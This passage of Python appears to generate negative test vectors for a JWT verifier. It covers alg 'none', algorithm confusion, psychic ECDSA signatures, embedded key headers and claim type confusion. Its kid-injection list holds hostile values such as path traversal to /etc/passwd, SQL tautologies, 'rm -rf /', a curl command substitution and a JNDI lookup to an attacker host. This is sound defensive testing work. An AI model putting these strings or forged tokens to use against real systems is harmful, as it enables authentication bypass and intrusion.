        signing_input = b64u(as_bytes(header)) + "." + b64u(as_bytes(claims))
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
        return signing_input + "." + b64u(hmac_mod.new(secret, signing_input.encode(), digest).digest())

    def crlf(text: str) -> str:
        return text.replace("\n", "\r\n")

    # --- alg none in every casing (RFC 7519 §6, RFC 8725 §2.1/§3.1; CVE-2015-9235, CVE-2022-23540) ---------
    covered = {"none", "None", "NONE", "nOnE"}  # algorithms/alg-none, -capitalised, -uppercase, -mixed-case
    for bits in range(16):
        variant = "".join(ch.upper() if bits >> (3 - i) & 1 else ch for i, ch in enumerate("none"))
        if variant in covered:
            continue
        upper = "-".join(str(i + 1) for i in range(4) if bits >> (3 - i) & 1)
        err(g, f"alg-none-upper-{upper}", f"[alg none] an unsecured token with alg {variant!r} (letters {upper} "
            "upper-case) is never accepted, whatever the casing (RFC 7519 §6, RFC 8725 §3.1; CVE-2015-9235)",
            "algorithm_not_allowed", build(dict(hs, alg=variant), c, sig=b""))
    err(g, "alg-none-every-algorithm-allowed", "[alg none] alg 'none' against an allow-list holding every "
        "implemented algorithm: none is never part of it (RFC 8725 §3.1)", "algorithm_not_allowed",
        build(dict(hs, alg="none"), c, sig=b""), options=opts(list(IMPLEMENTED)))
    err(g, "alg-none-with-jwks", "[alg none] alg 'none' with a kid against a key set (CVE-2022-23540: a "
        "verifier that finds no key must not fall back to 'none')", "algorithm_not_allowed",
        build({"alg": "none", "kid": "h1"}, c, sig=b""),
        key=k_jwks_oct(oct_jwk(s32, kid="h1")), options=opts(["HS256", "RS256"]))
    err(g, "alg-none-nul-suffix", "[alg none] 'none\\u0000' (a C-string comparison would see 'none')",
        "algorithm_not_allowed", build(dict(hs, alg="none\u0000"), c, sig=b""))

    # --- algorithm confusion: the public key text as an HMAC secret, verifier side --------------------------
    # RFC 8725 §2.1/§3.1; CVE-2015-9235 (jsonwebtoken), CVE-2016-10555 (jwt-simple), CVE-2017-11424 (PyJWT,
    # PKCS#1 form), CVE-2022-29217 (PyJWT, SSH form), CVE-2024-33663 (python-jose, EC keys).
    rsa_spki = PEM[("rsa2048", "spki")]
    rsa_pkcs1 = PEM[("rsa2048", "pub-pkcs1")]
    rsa_cert = PEM[("rsa2048", "cert")]
    ec_spki = PEM[("p256", "spki")]
    ed_spki = PEM[("ed25519", "spki")]
    rsa_jwk_text = json.dumps(JWK_PUB["rsa2048"])
    variants = [
        # name, HMAC secret the attacker used, the verifier's key (the same text where it is a PEM), asym alg
        ("rsa-spki-no-trailing-newline", rsa_spki.rstrip("\n"), {"pem": rsa_spki.rstrip("\n")}, "RS256",
         "the SPKI PEM without its final newline"),
        ("rsa-spki-crlf", crlf(rsa_spki), {"pem": crlf(rsa_spki)}, "RS256", "the SPKI PEM with CRLF line ends"),
        ("rsa-spki-leading-space", " " + rsa_spki, {"pem": " " + rsa_spki}, "RS256",
         "the SPKI PEM after a space"),
        ("rsa-spki-leading-newlines", "\n\n" + rsa_spki, {"pem": "\n\n" + rsa_spki}, "RS256",
         "the SPKI PEM after blank lines"),
        ("rsa-spki-bom", "\ufeff" + rsa_spki, {"pem": "\ufeff" + rsa_spki}, "RS256",
         "the SPKI PEM after a UTF-8 BOM"),
        ("rsa-spki-bom-crlf", "\ufeff" + crlf(rsa_spki), {"pem": "\ufeff" + crlf(rsa_spki)}, "RS256",
         "the SPKI PEM with BOM and CRLF"),
        ("rsa-pkcs1-public", rsa_pkcs1, {"pem": rsa_pkcs1}, "RS256",
         "the PKCS#1 'RSA PUBLIC KEY' PEM (CVE-2017-11424)"),
        ("rsa-pkcs1-public-crlf", crlf(rsa_pkcs1), {"pem": crlf(rsa_pkcs1)}, "RS256",
         "the PKCS#1 PEM with CRLF"),
        ("rsa-certificate", rsa_cert, {"pem": rsa_cert}, "RS256", "the X.509 certificate PEM"),
        ("rsa-certificate-bom-crlf", "\ufeff" + crlf(rsa_cert), {"pem": "\ufeff" + crlf(rsa_cert)}, "RS256",
         "the certificate PEM with BOM and CRLF"),
        ("rsa-jwk-text", rsa_jwk_text, k_jwk("rsa2048"), "RS256", "the RSA JWK as compact JSON text"),
        ("rsa-jwk-text-pretty-crlf", crlf(json.dumps(JWK_PUB["rsa2048"], indent=2) + "\n"), k_jwk("rsa2048"),
         "RS256", "the RSA JWK as indented JSON with CRLF"),
        ("rsa-jwk-text-bom-whitespace", "\ufeff \n" + rsa_jwk_text, k_jwk("rsa2048"), "RS256",
         "the RSA JWK JSON after a BOM and whitespace"),
        ("rsa-ssh-line", SSH["rsa2048"], {"pem": rsa_spki}, "RS256",
         "the key's OpenSSH 'ssh-rsa' line (CVE-2022-29217)"),
        ("ec-spki", ec_spki, {"pem": ec_spki}, "ES256", "the P-256 SPKI PEM (CVE-2024-33663)"),
        ("ec-spki-crlf-leading-tab", "\t" + crlf(ec_spki), {"pem": "\t" + crlf(ec_spki)}, "ES256",
         "the P-256 SPKI PEM after a tab, with CRLF"),
        ("ec-jwk-text", json.dumps(JWK_PUB["p256"]), k_jwk("p256"), "ES256", "the P-256 JWK as JSON text"),
        ("ed25519-spki", ed_spki, {"pem": ed_spki}, "EdDSA", "the Ed25519 SPKI PEM"),
        ("ed25519-jwk-text", json.dumps(JWK_PUB["ed25519"]), k_jwk("ed25519"), "EdDSA",
         "the Ed25519 JWK as JSON text"),
    ]
    for name, secret, key, asym, why in variants:
        tok = mac(secret)
        err(g, f"confusion-{name}-both-allowed", f"[algorithm confusion] an HS256 token MACed with {why} as the "
            f"secret, verified with that public key and algorithms [{asym}, HS256]: an asymmetric key never "
            "serves an HS* token (RFC 8725 §3.1; CVE-2016-10555)", "invalid_key", tok, key=key,
            options=opts([asym, "HS256"]))
        err(g, f"confusion-{name}-{asym.lower()}-only", f"[algorithm confusion] the same forged HS256 token "
            f"({why} as the secret) against algorithms [{asym}]: the allow-list refuses it first "
            "(RFC 8725 §3.1)", "algorithm_not_allowed", tok, key=key, options=opts(asym))
    err(g, "confusion-rsa-spki-hs512-both-allowed", "[algorithm confusion] HS512 instead of HS256, MACed with "
        "the SPKI PEM, algorithms [RS256, HS512] (RFC 8725 §3.1)", "invalid_key",
        mac(rsa_spki, header={"alg": "HS512", "typ": "JWT"}, alg="HS512"), key={"pem": rsa_spki},
        options=opts(["RS256", "HS512"]))
    conf_kid = mac(rsa_spki, header={"alg": "HS256", "kid": "rsa-a", "typ": "JWT"})
    err(g, "confusion-jwks-kid-names-rsa-key", "[algorithm confusion] an HS256 token MACed with the SPKI PEM "
        "whose kid names the RSA key of a JWKS: that key cannot serve HS256, so there is no key (RFC 8725 §3.1)",
        "key_not_found", conf_kid, key=k_jwks_oct(jwk_of("rsa2048", kid="rsa-a"), oct_jwk(s32, kid="h1")),
        options=opts(["RS256", "HS256"]))
    err(g, "confusion-jwks-no-kid-only-oct-key-fits", "[algorithm confusion] the same forgery without kid "
        "against a JWKS of the RSA key and an oct key: only the oct key is a candidate, and the MAC is not its "
        "(RFC 8725 §3.1)", "invalid_signature", mac(rsa_spki),
        key=k_jwks_oct(jwk_of("rsa2048", kid="rsa-a"), oct_jwk(s32, kid="h1")), options=opts(["RS256", "HS256"]))

    # --- key text refused as an HMAC secret at construction (forms not already in key/hmac-secret-is-*) -------
    p256_ssh = PRIV["p256"].public_key().public_bytes(
        serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode() + " test@onejwt"
    for name, secret, why in [
        ("rsa-spki-no-trailing-newline", rsa_spki.rstrip("\n"), "the SPKI PEM without its final newline"),
        ("rsa-spki-leading-crlf", "\r\n" + rsa_spki, "the SPKI PEM after a CRLF"),
        ("rsa-spki-leading-form-feed", "\f" + rsa_spki, "the SPKI PEM after a form feed"),
        ("rsa-spki-bom-leading-whitespace", "\ufeff \t\r\n" + rsa_spki, "the SPKI PEM after a BOM and whitespace"),
        ("rsa-pkcs1-public-bom", "\ufeff" + rsa_pkcs1, "the PKCS#1 public PEM after a BOM"),
        ("rsa-pkcs1-public-crlf", crlf(rsa_pkcs1), "the PKCS#1 public PEM with CRLF"),
        ("rsa-pkcs1-private", PEM[("rsa2048", "pkcs1")], "an 'RSA PRIVATE KEY' PEM"),
        ("ec-sec1-private", PEM[("p256", "sec1")], "an 'EC PRIVATE KEY' PEM"),
        ("certificate-crlf", crlf(rsa_cert), "the certificate PEM with CRLF"),
        ("certificate-bom-crlf-leading-space", "\ufeff " + crlf(rsa_cert), "the certificate PEM after BOM and "
         "space, with CRLF"),
        ("ssh-ecdsa-line", p256_ssh, "an OpenSSH 'ecdsa-sha2-nistp256' line (CVE-2024-33663)"),
        ("jwk-json-crlf-pretty", crlf(json.dumps(JWK_PUB["rsa2048"], indent=2) + "\n"), "an indented JWK with CRLF"),
        ("jwk-json-trailing-newline", rsa_jwk_text + "\n", "JWK JSON with a trailing newline"),
        ("jwks-json", json.dumps({"keys": [JWK_PUB["rsa2048"]]}), "a whole JWKS as JSON text"),
        ("rsa-spki-base64-body", "".join(rsa_spki.strip().splitlines()[1:-1]), "the SPKI PEM body without its "
         "armour lines (how environment variables often hold keys)"),
        ("certificate-base64-body-lines", "\n".join(rsa_cert.strip().splitlines()[1:-1]), "the certificate PEM "
         "body with its line breaks but no armour lines"),
        ("rsa-spki-after-nul", "\0" + rsa_spki, "the SPKI PEM after a NUL byte"),
        ("rsa-spki-after-nbsp", "\u00a0" + rsa_spki, "the SPKI PEM after a no-break space"),
        ("rsa-spki-after-vertical-tab", "\v" + rsa_spki, "the SPKI PEM after a vertical tab"),
        ("rsa-spki-after-u-fffe", "\ufffe" + rsa_spki, "the SPKI PEM after U+FFFE"),
    ]:
        err(g, f"hmac-secret-is-{name}", f"[algorithm confusion] {why} is never accepted as an HMAC secret, so a "
            "public key cannot be turned into one (RFC 8725 §3.1)", "invalid_key", mac(secret), key=k_hmac(secret))
    for name, secret, why in [
        ("rsa-spki-pem", rsa_spki, "the SPKI PEM bytes"),
        ("bom-crlf-cert-pem", "\ufeff" + crlf(rsa_cert), "BOM + CRLF certificate PEM bytes"),
    ]:
        err(g, f"hmac-base64url-secret-is-{name}", f"[algorithm confusion] {why} given as a base64url binary "
            "secret are still key text (RFC 8725 §3.1)", "invalid_key", mac(secret),
            key={"hmac_base64url": b64u(secret.encode())})

    # --- ECDSA: psychic signatures (CVE-2022-21449), range, encoding, high/low-S ---------------------------
    def es_parts(alg, key_name, header=None):
        hdr = header or {"alg": alg, "typ": "JWT"}
        si = b64u(cjson(hdr)) + "." + b64u(cjson(c))
        r, s = ecdsa_raw(alg, si.encode(), PRIV[key_name])
        return si, r, s

    def rs_bytes(r, s, size):
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")

    si, r, s = es_parts("ES256", "p256")
    psychic = "[psychic signature] CVE-2022-21449 (Java ECDSA accepted r = s = 0)"
    err(g, "es256-psychic-r-s-equal-order", f"{psychic}: r = s = n, which is 0 mod n; r and s must be in "
        "[1, n-1] (FIPS 186-4 §6.4)", "invalid_signature", si + "." + b64u(rs_bytes(n256, n256, 32)),
        key=k_pem("p256"), options=opts("ES256"))
    err(g, "es256-psychic-der-zero", f"{psychic}: the DER encoding of (0, 0) (30 06 02 01 00 02 01 00), "
        "which a DER-accepting verifier would parse (RFC 7518 §3.4 requires raw r||s)", "invalid_signature",
        si + "." + b64u(encode_dss_signature(0, 0)), key=k_pem("p256"), options=opts("ES256"))
    err(g, "es256-psychic-jwk-key", f"{psychic}: r = s = 0 with the key given as a JWK", "invalid_signature",
        si + "." + b64u(bytes(64)), key=k_jwk("p256"), options=opts("ES256"))
    kid_si, _, _ = es_parts("ES256", "p256", {"alg": "ES256", "kid": "ec-a", "typ": "JWT"})
    err(g, "es256-psychic-jwks-kid", f"{psychic}: r = s = 0 with a kid selecting the key from a JWKS",
        "invalid_signature", kid_si + "." + b64u(bytes(64)), key=k_jwks(jwk_of("p256", kid="ec-a")),
        options=opts("ES256"))
    err(g, "es256-r-s-swapped", "[ECDSA encoding] s||r instead of r||s (RFC 7518 §3.4)", "invalid_signature",
        si + "." + b64u(rs_bytes(s, r, 32)), key=k_pem("p256"), options=opts("ES256"))
    si3, r3, s3 = es_parts("ES384", "p384")
    for name, rr, ss, why in [("r-zero", 0, s3, "r = 0"), ("s-zero", r3, 0, "s = 0"),
                              ("r-equals-order", n384, s3, "r = n"), ("s-equals-order", r3, n384, "s = n"),
                              ("psychic-r-s-equal-order", n384, n384, "r = s = n")]:
        err(g, f"es384-{name}", f"{psychic}, P-384: {why}; r and s must be in [1, n-1] (FIPS 186-4 §6.4)",
            "invalid_signature", si3 + "." + b64u(rs_bytes(rr, ss, 48)), key=k_pem("p384"), options=opts("ES384"))
    err(g, "es384-der-signature", "[ECDSA encoding] an ASN.1 DER ES384 signature instead of raw r||s "
        "(RFC 7518 §3.4)", "invalid_signature", si3 + "." + b64u(encode_dss_signature(r3, s3)),
        key=k_pem("p384"), options=opts("ES384"))
    low = s if s <= n256 // 2 else n256 - s
    ok(g, "es256-low-s-ok", "[ECDSA malleability] the low-S form (s <= n/2) verifies; together with "
       "signature/es256-high-s-ok this documents that both s and n-s are accepted (RFC 7518 §3.4 does not "
       "require low-S)", si + "." + b64u(rs_bytes(r, low, 32)), key=k_pem("p256"), options=opts("ES256"))
    ok(g, "es256-high-s-jwk-ok", "[ECDSA malleability] the high-S form (s > n/2) verifies with a JWK key too",
       si + "." + b64u(rs_bytes(r, n256 - low, 32)), key=k_jwk("p256"), options=opts("ES256"))
    low3 = s3 if s3 <= n384 // 2 else n384 - s3
    ok(g, "es384-low-s-ok", "[ECDSA malleability] the low-S ES384 form verifies (RFC 7518 §3.4)",
       si3 + "." + b64u(rs_bytes(r3, low3, 48)), key=k_pem("p384"), options=opts("ES384"))

    # --- wrong curve for alg (RFC 7518 §3.4: ES256 is P-256 + SHA-256, ES384 is P-384 + SHA-384) -------------
    t_es256 = pyjwt(c, "ES256")
    t_es384 = pyjwt(c, "ES384")
    zero = b64u(bytes(32))
    for name, tok, alg, jwk_dict, why in [
        ("jwk-crv-p256-with-secp256k1-point", t_es256, "ES256", dict(JWK_PUB["secp256k1"], crv="P-256"),
         "a secp256k1 point relabelled crv P-256 (not on P-256)"),
        ("jwk-crv-p256-with-p384-coordinates", t_es256, "ES256", dict(JWK_PUB["p384"], crv="P-256"),
         "48-byte P-384 coordinates under crv P-256"),
        ("jwk-crv-p384-with-p256-coordinates", t_es384, "ES384", dict(JWK_PUB["p256"], crv="P-384"),
         "32-byte P-256 coordinates under crv P-384"),
        ("jwk-ec-point-zero", t_es256, "ES256", dict(JWK_PUB["p256"], x=zero, y=zero),
         "the point (0, 0), not on the curve (invalid-curve attack)"),
        ("jwk-p256-alg-es384-member", t_es384, "ES384", jwk_of("p256", alg="ES384"),
         "a P-256 key whose JWK claims alg ES384"),
        ("jwk-ed448-relabelled-ed25519", pyjwt(c, "EdDSA"), "EdDSA", dict(JWK_PUB["ed448"], crv="Ed25519"),
         "a 57-byte Ed448 key relabelled crv Ed25519"),
    ]:
        err(g, f"wrong-curve-{name}", f"[wrong curve] {why}: refused as a key for {alg} (RFC 7518 §3.4, §6.2.1)",
            "invalid_key", tok, key=k_jwk(jwk_dict), options=opts(alg))
    k1_hdr = {"alg": "ES256", "typ": "JWT"}
    k1_si = b64u(cjson(k1_hdr)) + "." + b64u(cjson(c))
    k1_r, k1_s = ecdsa_raw("ES256", k1_si.encode(), PRIV["secp256k1"])
    err(g, "wrong-curve-es256-signed-on-secp256k1", "[wrong curve] an 'ES256' header over a secp256k1 (ES256K) "
        "signature, verified with the P-256 key (RFC 7518 §3.4, RFC 8812 §3.2)", "invalid_signature",
        k1_si + "." + b64u(rs_bytes(k1_r, k1_s, 32)), key=k_pem("p256"), options=opts("ES256"))

    # --- embedded key headers: jwk / jku / x5u / x5c / x5t (RFC 8725 §3.10; CVE-2018-0114) ------------------
    ra = jwk_of("rsa2048", kid="rsa-a")
    cert_b_pem = PEM[("rsa2048-b", "cert")]
    cert_b = "".join(cert_b_pem.splitlines()[1:-1])
    cert_b_der = x509.load_pem_x509_certificate(cert_b_pem.encode()).public_bytes(serialization.Encoding.DER)
    emb = "[embedded key] CVE-2018-0114 (node-jose trusted an embedded jwk), RFC 8725 §3.10"
    for name, extra, key, code, why in [
        ("x5c-keyset-kid", {"kid": "rsa-a", "x5c": [cert_b]}, k_jwks(ra), "invalid_signature",
         "an attacker certificate chain in x5c with the victim's kid"),
        ("x5u-keyset-kid", {"kid": "rsa-a", "x5u": "https://attacker.example/cert.pem"}, k_jwks(ra),
         "invalid_signature", "an attacker x5u URL with the victim's kid"),
        ("x5t-keyset-kid", {"kid": "rsa-a", "x5t": b64u(hashlib.sha1(cert_b_der).digest()),
                            "x5t#S256": b64u(hashlib.sha256(cert_b_der).digest())}, k_jwks(ra),
         "invalid_signature", "x5t / x5t#S256 thumbprints of the attacker certificate"),
        ("jwk-no-kid-keyset", {"jwk": JWK_PUB["rsa2048-b"]}, k_jwks(ra), "invalid_signature",
         "an embedded jwk and no kid against a one-key JWKS"),
        ("jwk-own-kid-keyset", {"kid": "attacker", "jwk": jwk_of("rsa2048-b", kid="attacker")}, k_jwks(ra),
         "key_not_found", "an embedded jwk carrying its own kid, which is not in the JWKS"),
        ("all-key-headers", {"jwk": JWK_PUB["rsa2048-b"], "jku": "https://attacker.example/jwks.json",
                             "x5u": "https://attacker.example/cert.pem", "x5c": [cert_b],
                             "x5t#S256": b64u(hashlib.sha256(cert_b_der).digest())}, k_pem("rsa2048"),
         "invalid_signature", "jwk, jku, x5u, x5c and x5t#S256 all at once"),
    ]:
        err(g, f"embedded-{name}", f"{emb}: {why}; the token, signed by the attacker key, is checked against "
            "the configured keys only", code, pyjwt(c, "RS256", "rsa2048-b", headers=extra), key=key,
            options=opts("RS256"))
    attacker_secret = "attacker-chosen-secret-32-bytes!"
    emb_oct = mac(attacker_secret, header={"alg": "HS256", "jwk": oct_jwk(attacker_secret), "typ": "JWT"})
    err(g, "embedded-jwk-oct-vs-rsa-key", f"{emb}: an HS256 token MACed with an attacker secret embedded as an "
        "oct jwk, against an RSA verifier allowing [RS256, HS256]", "invalid_key", emb_oct, key=k_pem("rsa2048"),
        options=opts(["RS256", "HS256"]))
    err(g, "embedded-jwk-oct-vs-hmac-key", f"{emb}: the same token against an HS256 verifier with its own "
        "secret", "invalid_signature", emb_oct)
    err(g, "embedded-jwk-ec-keyset-kid", f"{emb}: ES256 signed by another P-256 key embedded as jwk with the "
        "victim's kid", "invalid_signature",
        pyjwt(c, "ES256", "p256-b", headers={"kid": "ec-a", "jwk": JWK_PUB["p256-b"]}),
        key=k_jwks(jwk_of("p256", kid="ec-a")), options=opts("ES256"))
    err(g, "embedded-jwk-eddsa", f"{emb}: EdDSA signed by another Ed25519 key embedded as jwk", "invalid_signature",
        pyjwt(c, "EdDSA", "ed25519-b", headers={"jwk": JWK_PUB["ed25519-b"]}), key=k_pem("ed25519"),
        options=opts("EdDSA"))

    # --- kid injection strings (RFC 8725 §3.10: kid must not reach SQL/LDAP/file lookups unchecked) --------
    kid_set = k_jwks_oct(oct_jwk(s32, kid="h1"), ra)
    kid_opts = opts(["HS256", "RS256"])
    kid_cases = [
        ("path-traversal-etc-passwd", "../../etc/passwd", s32, "a path traversal"),
        ("path-traversal-dev-null", "../../../../../../dev/null", b"",
         "the classic /dev/null traversal, MACed with the empty secret an empty file would give"),
        ("path-traversal-to-real-kid", "keys/../h1", s32, "a path that normalises to the real kid"),
        ("dot-slash-real-kid", "./h1", s32, "'./' before the real kid"),
        ("absolute-path", "/h1", s32, "an absolute path"),
        ("windows-path", "..\\..\\h1", s32, "a Windows-style traversal"),
        ("percent-encoded", "%2e%2e%2fh1", s32, "a percent-encoded traversal"),
        ("sql-or-1-1", "' OR 1=1 --", s32, "a SQL tautology"),
        ("sql-tautology-on-real-kid", "h1' OR '1'='1", s32, "a SQL tautology after the real kid"),
        ("sql-union-select", "x' UNION SELECT 'onejwt-test-hs256-secret-32bytes' --", s32,
         "a SQL UNION returning the secret"),
        ("nul-only", "\u0000", s32, "a lone NUL character"),
        ("nul-truncation", "h1\u0000", s32, "the real kid followed by NUL (a C string would end there)"),
        ("nul-then-suffix", "h1\u0000.pem", s32, "the real kid, NUL, then a file suffix"),
        ("trailing-space", "h1 ", s32, "the real kid with a trailing space"),
        ("leading-space", " h1", s32, "the real kid with a leading space"),
        ("trailing-newline", "h1\n", s32, "the real kid with a trailing newline"),
        ("case-differs", "H1", s32, "the real kid in another case"),
        ("fullwidth", "\uff48\uff11", s32, "the real kid in fullwidth letters (NFKC-equal, not equal)"),
        ("empty-string", "", s32, "an empty kid"),
        ("wildcard", "*", s32, "a wildcard"),
        ("regex", ".*", s32, "a regular expression"),
        ("command-injection", "h1; rm -rf / #", s32, "shell metacharacters"),
        ("command-substitution", "$(curl https://attacker.example)", s32, "a shell command substitution"),
        ("jndi-lookup", "${jndi:ldap://attacker.example/a}", s32, "a JNDI lookup string (Log4Shell)"),
        ("ldap-filter", "*)(uid=*))(|(uid=*", s32, "an LDAP filter injection"),
        ("url", "https://attacker.example/jwks.json", s32, "an attacker URL"),
        ("very-long", "k" * 8000, s32, "an 8000-character kid"),
        ("very-long-real-kid-prefix", "h1" + "x" * 8000, s32, "the real kid followed by 8000 characters"),
    ]
    for name, kid, secret, why in kid_cases:
        err(g, f"kid-{name}", f"[kid injection] kid {why}: only an exact match selects a key, never a crash or a "
            "partial match (RFC 8725 §3.10, RFC 7515 §4.1.4)", "key_not_found",
            mac(secret, header={"alg": "HS256", "kid": kid, "typ": "JWT"}), key=kid_set, options=kid_opts,
            unsure="empty-string kid: treated as a kid that matches nothing (key_not_found), not as no kid"
            if kid == "" else None)
    ok(g, "kid-json-escaped-real-kid-ok", "[kid injection] kid written as JSON escapes '\\u0068\\u0031' is the "
       "string 'h1' after decoding (RFC 8259 §7), so it selects that key", mac(
           s32, header=b'{"alg":"HS256","kid":"\\u0068\\u0031","typ":"JWT"}'), key=kid_set, options=kid_opts)

    # --- crit variants (RFC 7515 §4.1.11) ------------------------------------------------------------------
    def crit_tok(hdr):
        return build(dict(hs, **hdr), c)

    for name, hdr, why in [
        ("object", {"crit": {"b64": True}, "b64": True}, "crit as an object"),
        ("empty-string-entry", {"crit": [""]}, "crit holding an empty name"),
        ("registered-kid", {"crit": ["kid"], "kid": "k1"}, "crit listing the registered name kid"),
        ("registered-typ", {"crit": ["typ"]}, "crit listing typ"),
        ("b64-and-exp", {"crit": ["b64", "exp"], "b64": False, "exp": 1}, "crit [b64, exp] with both present"),
        ("many-entries", dict({"crit": [f"x{i}" for i in range(200)]}, **{f"x{i}": i for i in range(200)}),
         "200 crit entries, all present"),
    ]:
        err(g, f"crit-{name}", f"[crit] {why}: a crit this verifier does not understand makes the token invalid "
            "(RFC 7515 §4.1.11)", "malformed", crit_tok(hdr))
    err(g, "crit-escaped-member-name", "[crit] crit ['x'] with the member written as '\\u0078' (RFC 7515 "
        "§4.1.11)", "malformed", mac(s32, header=b'{"alg":"HS256","crit":["x"],"\\u0078":1}'))
    cc = base_claims(crit=["exp"])
    ok(g, "crit-in-claims-ok", "[crit] a claim named crit is an ordinary private claim: crit is a header "
       "parameter (RFC 7515 §4.1.11)", pyjwt(cc))

    # --- b64:false, unencoded payload (RFC 7797 §3, §5) --------------------------------------------------
    b64h = b64u(cjson({"alg": "HS256", "b64": False, "crit": ["b64"]}))

    def unencoded(payload: str, shown: str | None = None) -> str:
        sig = hmac_mod.new(s32.encode(), (b64h + "." + payload).encode(), hashlib.sha256).digest()
        return b64h + "." + (payload if shown is None else shown) + "." + b64u(sig)

    b64f = "[b64:false] RFC 7797 unencoded payloads are not supported"
    err(g, "b64-false-detached-payload", f"{b64f}: the RFC 7797 §4.2 example payload '$.02' detached "
        "(RFC 7515 Appendix F: empty middle segment), MACed over the raw payload; the empty payload is already "
        "refused by the structure check", "malformed", unencoded("$.02", ""))
    err(g, "b64-false-payload-with-dots", f"{b64f}: the raw payload '$.02' in place (RFC 7797 §5.2: it then "
        "contains a '.')", "malformed", unencoded("$.02"))
    err(g, "b64-false-raw-json-payload", f"{b64f}: raw JSON claims as the middle segment", "malformed",
        unencoded('{"sub":"admin"}'))
    as_b64 = b64u(cjson({"sub": "admin"}))
    err(g, "b64-false-payload-reads-as-base64url", f"{b64f}: the raw payload is itself base64url text, so a "
        "verifier that ignored b64 would accept the same bytes as {\"sub\":\"admin\"}", "malformed",
        unencoded(as_b64))
    err(g, "b64-false-alg-none", f"{b64f}; with alg none the allow-list decides first", "algorithm_not_allowed",
        build({"alg": "none", "b64": False, "crit": ["b64"]}, c, sig=b""))

    # --- claim type confusion (RFC 7519 §2 NumericDate, §4.1) ---------------------------------------------
    def raw_claims(body: bytes) -> str:
        return resign(h0, b64u(body))

    for name, value, why in [
        ("exp-nan-string", "NaN", "exp 'NaN' (JSON has no NaN; the string is not a number)"),
        ("exp-infinity-string", "Infinity", "exp 'Infinity' as a string"),
        ("exp-empty-string", "", "exp as an empty string"),
        ("exp-exponent-string", "1.7e9", "exp as a numeric string with an exponent"),
        ("exp-hex-string", "0x6553f100", "exp as a hexadecimal string"),
        ("exp-array-of-null", [None], "exp as [null]"),
        ("nbf-nan-string", "NaN", "nbf 'NaN'"),
        ("iat-infinity-string", "Infinity", "iat 'Infinity'"),
    ]:
        claim = name.split("-")[0]
        err(g, f"type-{name}", f"[claim type confusion] {why}: {claim} must be a JSON number (RFC 7519 §2)",
            "invalid_claim", pyjwt(dict(c, **{claim: value})))
    for name, body, why in [
        ("exp-nan-literal", b'{"sub":"u","exp":NaN}', "the NaN literal is not JSON (RFC 8259 §6)"),
        ("exp-infinity-literal", b'{"sub":"u","exp":Infinity}', "the Infinity literal is not JSON"),
        ("exp-1e400", b'{"sub":"u","exp":1e400}', "exp 1e400 overflows a double (RFC 8259 §6: out of range)"),
        ("exp-minus-1e400", b'{"sub":"u","exp":-1e400}', "exp -1e400 overflows a double"),
        ("nbf-1e400", b'{"sub":"u","nbf":1e400}', "nbf 1e400"),
        ("iat-1e400", b'{"sub":"u","iat":1e400}', "iat 1e400"),
    ]:
        err(g, f"type-{name}", f"[claim type confusion] {why}: the payload is refused as malformed, as "
            "structure/payload-number-overflow does for any member", "malformed", raw_claims(body))
    for name, claims, opts_, why in [
        ("iss-object", dict(c, iss={"value": "https://issuer.example"}), opts(issuer="https://issuer.example"),
         "iss as an object"),
        ("iss-array-vs-issuer-list", dict(c, iss=["https://a.example"]),
         opts(issuer=["https://a.example", "https://b.example"]), "iss as an array against an issuer list"),
        ("iss-boolean", dict(c, iss=True), opts(), "iss true"),
        ("sub-object", dict(c, sub={"id": 1}), opts(), "sub as an object"),
        ("aud-numeric-entry-no-audience-option", dict(c, aud=[1]), opts(), "aud [1] without an audience option"),
        ("aud-number-vs-configured-numeric-string", dict(c, aud=1), opts(audience="1"),
         "aud 1 against the configured audience '1' (a loose comparison would match)"),
        ("aud-numeric-entries-vs-configured-string", dict(c, aud=[1, 2]), opts(audience="1"),
         "aud [1, 2] against '1'"),
        ("aud-array-with-null", dict(c, aud=["api", None]), opts(audience="api"), "aud ['api', null]"),
        ("aud-boolean", dict(c, aud=True), opts(audience="api"), "aud true"),
    ]:
        err(g, f"type-{name}", f"[claim type confusion] {why}: iss/sub must be strings and aud a string or an "
            "array of strings (RFC 7519 §4.1.1-§4.1.3)", "invalid_claim", build(hs, claims), options=opts_)
    err(g, "type-aud-empty-array-no-audience-option", "[claim type confusion] aud [] without an audience option: "
        "well typed (an array of strings) but naming nobody, and a token carrying aud must name this verifier "
        "(RFC 7519 §4.1.3; issue 12)", "invalid_audience", build(hs, dict(c, aud=[])))
    ok(g, "type-exp-1e308-ok", "[claim type confusion] exp 1e308 is a finite JSON number far in the future: "
       "accepted, not overflowed into the past (RFC 7519 §2)", raw_claims(b'{"sub":"u","exp":1e308}'),
       claims={"sub": "u", "exp": 1e308},
       unsure="exp 1e308 (finite, absurdly far future): accepted")
    # 10^20 rather than 2^64: both overflow every 64-bit integer type, but 10^20 is also exactly what JS
    # prints for that double, so the cross-runtime diff compares like with like.
    ok(g, "type-exp-1e20-integer-ok", "[claim type confusion] exp 100000000000000000000 (an integer literal "
       "past every 64-bit integer type) is a JSON number in the future: accepted, not wrapped to a negative "
       "time (RFC 7519 §2)", raw_claims(b'{"sub":"u","exp":100000000000000000000}'),
       claims={"sub": "u", "exp": 10 ** 20}, unsure="exp 10^20 (integer literal beyond u64): accepted")
    err(g, "type-exp-1e-400-underflow", "[claim type confusion] exp 1e-400 underflows to 0 (1970): expired, not "
        "an error-free 'no expiry' (RFC 7519 §2)", "expired", raw_claims(b'{"sub":"u","exp":1e-400}'),
        unsure="exp 1e-400: read as 0 (expired) rather than malformed")

    # --- duplicate member names (RFC 7515 §5.2, RFC 7519 §4, RFC 8259 §4) ----------------------------------
    dup = "[duplicate members] parsers disagree on which duplicate wins, so duplicates are refused (RFC 7515 §5.2)"
    for name, part, body, why in [
        ("header-kid", "h", b'{"alg":"HS256","kid":"h1","kid":"rsa-a"}', "kid twice in the header"),
        ("header-alg-via-escape", "h", b'{"alg":"none","\\u0061lg":"HS256"}', "alg and its escaped spelling"),
        ("header-nested", "h", b'{"alg":"HS256","x":{"b":1,"b":2}}', "a duplicate inside a header object"),
        ("payload-a-b", "p", b'{"a":{"b":1,"b":2}}', "{\"a\":{\"b\":1,\"b\":2}}"),
        ("payload-deep", "p", b'{"sub":"u","a":{"b":[{"c":{"d":{"e":1,"e":1}}}]}}', "a duplicate five levels down"),
        ("payload-aud", "p", b'{"sub":"u","aud":"other","aud":"api"}', "aud twice"),
        ("payload-iss", "p", b'{"sub":"u","iss":"https://evil.example","iss":"https://issuer.example"}',
